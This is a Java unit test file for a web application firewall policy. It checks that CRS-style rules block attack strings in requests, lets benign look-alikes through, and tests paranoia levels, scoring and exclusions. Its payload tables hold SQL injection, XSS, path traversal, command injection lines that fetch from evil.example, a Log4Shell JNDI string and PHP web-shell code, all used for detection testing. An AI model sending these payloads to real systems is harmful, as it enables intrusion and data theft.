package io.paduraksa.policy.attack;

import static org.assertj.core.api.Assertions.assertThat;

import io.paduraksa.policy.PolicyDecision;
import io.paduraksa.testing.TestPolicyInput;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Payload tables per detector with benign look-alikes, paranoia gating, scoring, exclusions, detect-only. */
class AttacksPolicyTest {
    private static final PolicyDecision DENIED = PolicyDecision.DROP;
    private static final List<String> DEFAULT_HEADERS = List.of("User-Agent", "Referer");
    private static final String CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
            + "Chrome/126.0.0.0 Safari/537.36";

    static AttacksPolicy policy(int paranoia, int threshold, boolean detectOnly, List<AttackExclusion> exclusions) {
        return new AttacksPolicy("waf", paranoia, threshold, true, true, true, DEFAULT_HEADERS, detectOnly, exclusions, DENIED);
    }

    static AttacksPolicy pl(int paranoia) {
        return policy(paranoia, 5, false, List.of());
    }

    /** A browser-like request whose query parameter {@code q} is {@code value} (form-encoded as a browser would). */
    static TestPolicyInput query(String path, String name, String value) {
        TestPolicyInput r = new TestPolicyInput().path(path);
        r.target(path + "?page=2&" + name + "=" + URLEncoder.encode(value, StandardCharsets.UTF_8));
        r.header("User-Agent", CHROME);
        r.header("Referer", "https://www.example.test/start");
        r.header("Cookie", "_ga=GA1.2.1234567890.1700000000; session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl");
        return r;
    }

    /** The ids of the rules that matched, from explain output. */
    static String matchedRules(AttacksPolicy policy, TestPolicyInput request) {
        StringBuilder ids = new StringBuilder();
        for (String line : policy.explain(request)) {
            if (line.contains(": MATCH")) {
                ids.append(ids.length() == 0 ? "" : " ").append(line, 0, line.indexOf(' '));
            }
        }
        return ids.toString();
    }

    @ParameterizedTest(name = "{0}: {1}")
    @CsvSource(delimiterString = " => ", quoteCharacter = 0, textBlock = """
            942100 => 1 UNION SELECT username, password FROM users
            942100 => 1 union/**/all/**/select null
            942100 => 1 /*!50000UnIoN*/ /*!50000SeLeCt*/ 1
            942110 => ' or 1=1 --
            942110 => admin' OR 'a'='a
            942110 => x" or ""="
            942110 => 1' and '1'='1
            942120 => 1 or 1=1
            942130 => 1; DROP TABLE users
            942140 => 1 and 1=(select count(*) from information_schema.tables)
            942160 => 1 and sleep(5)
            942160 => 1; waitfor delay '0:0:5'
            942160 => benchmark(1000000,md5(1))
            942170 => 1 and extractvalue(1,concat(0x7e,version()))
            942180 => admin'--
            942190 => 1 and exists(select * from users)
            941110 => <script>alert(1)</script>
            941110 => %3Cscript%3Ealert(1)%3C/script%3E
            941110 => &lt;script&gt;alert(1)&lt;/script&gt;
            941120 => <img src=x onerror=alert(1)>
            941120 => <a href=# OnMouseOver ="x()">
            941160 => <svg/onload=alert(1)>
            941160 => <iframe src=//evil.example>
            941170 => javascript:alert(document.domain)
            941170 => JaVaScRiPt&colon;alert(1)
            941180 => x=document.cookie
            930110 => ../../../../etc/passwd
            930110 => ..\\..\\windows\\win.ini
            930110 => %2e%2e%2f%2e%2e%2fetc%2fpasswd
            930120 => /etc/shadow
            930120 => c:/boot.ini
            932100 => ; cat /etc/hosts
            932100 => | wget http://evil.example/x.sh
            932100 => `whoami`
            932100 => x && curl evil.example
            932100 => 127.0.0.1%0aid
            932110 => & cmd.exe /c dir
            932110 => powershell -enc SQBFAFgA
            932120 => ${IFS}/bin/sh
            932170 => () { :; }; echo vulnerable
            933100 => <?php system($_GET['c']); ?>
            933110 => php://filter/convert.base64-encode/resource=index.php
            933130 => $_SERVER['HTTP_HOST']
            933150 => eval(base64_decode('ZWNobyAx'))
            933160 => system('id')
            933161 => curl_iNit()
            933161 => eval\r($foo)
            933161 => escapeshellcmd('x')
            933161 => ftp_connect("x")
            933170 => O:8:"stdClass":1:{s:1:"a";s:1:"b";}
            944100 => java.lang.Runtime.getRuntime().exec('id')
            944150 => ${jndi:ldap://evil.example/a}
            944150 => ${${lower:j}ndi:ldap://evil.example/a}
            944130 => class.module.classLoader.resources.context.parent.pipeline.first.pattern
            944130 => com.opensymphony.xwork2.ActionContext
            944130 => java.io.BufferedReader
            944120 => org.apache.commons.collections.functors.InvokerTransformer Runtime.exec
            944120 => ProcessBuilder.evil.clonetransformer
            944210 => rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA
            920270 => a%00b
            921130 => x%0d%0aSet-Cookie: admin=1
            """)
    void attacksInAQueryParameterAreDeniedAtParanoia1(String rule, String payload) {
        AttacksPolicy policy = pl(1);
        TestPolicyInput request = query("/search", "q", payload);

        assertThat(policy.evaluate(request)).isSameAs(DENIED);
        assertThat(matchedRules(policy, request)).contains(rule);
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', quoteCharacter = 0, textBlock = """
            O'Brien
            Conan O'Brien's show
            select a size
            Please select your size from the list
            1 or 2 items
            john.doe+tag@example.test
            C# and F# tutorials
            script writing course
            javascript tutorial for beginners
            Tom & Jerry
            union station
            trade union selection
            50% off
            it's 5 o'clock; don't be late
            rock 'n' roll
            path/to/file.txt
            1.2.3
            a=b
            <3 cats
            price < 10 and size > 2
            drop shipping
            the sleep cycle
            curl recipes
            SELECT your favourite
            what is a system (operating)
            rm -rf is dangerous
            echo chamber
            update your profile set
            me & you
            C:\\Users\\me\\Documents
            #hashtag
            2+2=4
            e=mc^2
            java coffee beans
            runtime of the movie
            getproperty docs for beginners
            struts and frets
            file a complaint (online)
            eval uation of chr
            """)
    void benignLookAlikesPassAtParanoia1(String value) {
        AttacksPolicy policy = pl(1);
        TestPolicyInput request = query("/search", "q", value);

        assertThat(policy.evaluate(request)).as(matchedRules(policy, request)).isSameAs(PolicyDecision.CONTINUE);
    }

    /** Payloads from CRS 3.3.4's tests of its paranoia-2 rules: denied at PL2 by the named rule, which PL1 never runs. */
    @ParameterizedTest(name = "{0}: {1}")
    @CsvSource(delimiterString = " => ", quoteCharacter = 0, textBlock = """
            942410 => ABS(
            942410 => cast(
            942410 => COALESCE(
            942410 => 1 and ascii(substr(user,1,1))
            942211 => var= @.= ( SELECT
            942210 => AND 2771=1709)
            942210 => or 120=121=
            942210 => ; DROP
            942210 => x set @a=1
            942211 => 1 group by password,(select 1)
            942211 => @x=(select 1)
            942380 => ORder by
            942381 => SELECT (CASE
            942380 => exists (select 1)
            942380 => 1 having 1=1
            942380 => execute xp_x
            942381 => from `db_miwf`.`sys_refindex` limit
            942381 => create table x (a int)
            944240 => getproperty
            944240 => xmldecoder
            944250 => java.evil.runtime
            944250 => java.lang.processbuilder
            """)
    void paranoia2SqlAndJavaRulesDenyAtParanoia2Only(String rule, String payload) {
        TestPolicyInput request = query("/search", "q", payload);

        assertThat(pl(2).evaluate(request)).isSameAs(DENIED);
        assertThat(matchedRules(pl(2), request)).contains(rule);
        assertThat(matchedRules(pl(1), request)).doesNotContain(rule);
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', quoteCharacter = 0, textBlock = """
            abstract art
            cast iron pan
            the count of monte cristo
            in stock
            if you like it
            executed yesterday
            ordered by phone
            from paris to rome
            selection of cases
            free from limits
            java coffee beans
            javascript runtime
            property of the owner
            /Business and
            4AND4+
            """)
    void benignLookAlikesPassAtParanoia2(String value) {
        AttacksPolicy policy = pl(2);
        TestPolicyInput request = query("/search", "q", value);

        assertThat(policy.evaluate(request)).as(matchedRules(policy, request)).isSameAs(PolicyDecision.CONTINUE);
    }

    @ParameterizedTest(name = "{0} at PL{1} -> {2}")
    @CsvSource(delimiter = '|', quoteCharacter = 0, textBlock = """
            alert(1)                   | 1 | pass
            alert(1)                   | 2 | deny
            select name from users     | 1 | pass
            select name from users     | 2 | deny
            1 and sleep (5)            | 1 | pass
            1 and sleep (5)            | 2 | deny
            x onerror=foo()            | 1 | deny
            x onerror=foo              | 2 | deny
            $(touch /tmp/x)            | 1 | pass
            $(touch /tmp/x)            | 2 | deny
            """)
    void paranoiaLevelsSelectRuleGroups(String payload, int paranoia, String expected) {
        PolicyDecision d = pl(paranoia).evaluate(query("/search", "q", payload));

        assertThat(d == DENIED ? "deny" : "pass").isEqualTo(expected);
    }

    @Test
    void warningsAddUpToTheThreshold() {
        // 7 special characters: 942431 (PL3, warning 3) alone is below 5; 12 also match 942430 (PL2, 3): 6 denies.
        assertThat(pl(3).evaluate(query("/s", "q", "a'\")(;\"b"))).isSameAs(PolicyDecision.CONTINUE);
        assertThat(pl(3).evaluate(query("/s", "q", "a'\")(;\"'\")(;)b"))).isSameAs(DENIED);
        assertThat(pl(2).evaluate(query("/s", "q", "a'\")(;\"'\")(;)b"))).isSameAs(PolicyDecision.CONTINUE);
    }

    @Test
    void aHigherThresholdNeedsSeveralCriticalRules() {
        AttacksPolicy tolerant = policy(1, 10, false, List.of());

        assertThat(tolerant.evaluate(query("/s", "q", "a union select 1"))).isSameAs(PolicyDecision.CONTINUE);
        assertThat(tolerant.evaluate(query("/s", "q", "1 union select table_name from information_schema.tables")))
                .isSameAs(DENIED);
    }

    @Test
    void aRuleCountsOncePerRequestWhateverItMatchesIn() {
        AttacksPolicy tolerant = policy(1, 10, false, List.of());
        TestPolicyInput twice = new TestPolicyInput().path("/s");
        twice.target("/s?a=%3Cscript%3E&b=%3Cscript%3E");

        assertThat(tolerant.evaluate(twice)).isSameAs(PolicyDecision.CONTINUE);
    }

    @Test
    void exclusionsApplyByRuleArgumentAndPath() {
        AttacksPolicy policy = policy(1, 5, false, List.of(
                new AttackExclusion(List.of(942100), List.of("q"), List.of("/search")),
                new AttackExclusion(List.of(941), List.of(), List.of("/cms/editor"))));

        assertThat(policy.evaluate(query("/search", "q", "a union select 1"))).isSameAs(PolicyDecision.CONTINUE);
        assertThat(policy.evaluate(query("/search/deeper", "q", "a union select 1"))).isSameAs(PolicyDecision.CONTINUE);
        assertThat(policy.evaluate(query("/searching", "q", "a union select 1"))).isSameAs(DENIED);
        assertThat(policy.evaluate(query("/other", "q", "a union select 1"))).isSameAs(DENIED);
        assertThat(policy.evaluate(query("/search", "r", "a union select 1"))).isSameAs(DENIED);
        assertThat(policy.evaluate(query("/search", "q", "' or 1=1 --"))).isSameAs(DENIED);
        assertThat(policy.evaluate(query("/cms/editor", "body", "<script>x()</script>"))).isSameAs(PolicyDecision.CONTINUE);
        assertThat(policy.evaluate(query("/cms/editor", "body", "' or 1=1 --"))).isSameAs(DENIED);
        assertThat(matchedRules(policy, query("/search", "q", "a union select 1"))).doesNotContain("942100");
    }

    @Test
    void detectOnlyCountsButNeverDenies() {
        AttacksPolicy policy = new AttacksPolicy("watch-only", 1, 5, true, true, true, DEFAULT_HEADERS, true, List.of(), DENIED);
        long detected = policy.counters().detected();
        long xss = policy.counters().matches(941);

        assertThat(policy.evaluate(query("/s", "q", "<script>alert(1)</script>"))).isSameAs(PolicyDecision.CONTINUE);
        assertThat(policy.counters().detected()).isEqualTo(detected + 1);
        assertThat(policy.counters().denied()).isZero();
        assertThat(policy.counters().matches(941)).isGreaterThan(xss);
    }

    @Test
    void everyDefaultPartIsInspected() {
        AttacksPolicy policy = pl(1);
        TestPolicyInput path = new TestPolicyInput().path("/files");
        path.target("/files/..%2f..%2fetc/passwd");
        TestPolicyInput cookie = new TestPolicyInput();
        cookie.target("/");
        cookie.header("Cookie", "theme=dark; session=x%27%20or%201%3D1--");
        TestPolicyInput userAgent = new TestPolicyInput();
        userAgent.target("/");
        userAgent.header("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)");
        TestPolicyInput referer = new TestPolicyInput();
        referer.target("/");
        referer.header("Referer", "https://www.example.test/?q=%3Cscript%3Ealert(1)%3C/script%3E");
        TestPolicyInput other = new TestPolicyInput();
        other.target("/");
        other.header("X-Comment", "<script>alert(1)</script>");

        assertThat(matchedRules(policy, path)).contains("930110");
        assertThat(policy.evaluate(path)).isSameAs(DENIED);
        assertThat(policy.evaluate(cookie)).isSameAs(DENIED);
        assertThat(policy.evaluate(userAgent)).isSameAs(DENIED);
        assertThat(matchedRules(policy, userAgent)).isEqualTo("913100");
        assertThat(policy.evaluate(referer)).isSameAs(DENIED);
        assertThat(policy.evaluate(other)).as("X-Comment is not inspected by default").isSameAs(PolicyDecision.CONTINUE);
        AttacksPolicy withHeader = new AttacksPolicy("waf", 1, 5, true, true, true, List.of("X-Comment"), false, List.of(), DENIED);
        assertThat(withHeader.evaluate(other)).isSameAs(DENIED);
    }

    @Test
    void partsCanBeSwitchedOff() {
        AttacksPolicy queryOnly = new AttacksPolicy("waf", 1, 5, false, true, false, List.of(), false, List.of(), DENIED);
        TestPolicyInput cookie = new TestPolicyInput();
        cookie.target("/../../etc/passwd");
        cookie.header("Cookie", "a=<script>");
        cookie.header("User-Agent", "sqlmap/1.7");

        assertThat(queryOnly.evaluate(cookie)).isSameAs(PolicyDecision.CONTINUE);
        assertThat(queryOnly.evaluate(query("/", "q", "<script>"))).isSameAs(DENIED);
    }

    @Test
    void queryParameterNamesAreInspectedToo() {
        TestPolicyInput request = new TestPolicyInput();
        request.target("/s?%3Cscript%3E=1");

        assertThat(pl(1).evaluate(request)).isSameAs(DENIED);
    }

    @Test
    void explainGivesEveryRuleVerdictAndTheTotal() {
        List<String> lines = pl(1).explain(query("/s", "q", "<script>"));

        assertThat(lines).anyMatch(l -> l.startsWith("941110 query:q: MATCH +5"));
        assertThat(lines).anyMatch(l -> l.startsWith("942100 query:q: no match"));
        assertThat(lines.get(lines.size() - 1)).isEqualTo("score 5/5 (paranoia 1) -> deny");
    }

    @Test
    void theLogLineNamesRulePartArgumentAndAnEscapedExcerpt() {
        AttacksPolicy tolerant = policy(1, 100, false, List.of());
        TestPolicyInput request = new TestPolicyInput();
        request.target("/s?a%22b=%01%0d%0aSet-Cookie:%20x%22%5C%3Cscript%3E");

        tolerant.evaluate(request);

        assertThat(AttacksPolicy.lastMatchesOnThisThread())
                .contains("921130 query:a\\\"b \"\\x01\\x0aset-cookie:")
                .contains("941110 query:a\\\"b \"\\x01\\x0aset-cookie: x\\\"\\\\<script\"")
                .doesNotContain("\n").doesNotContain("\r");
    }
}
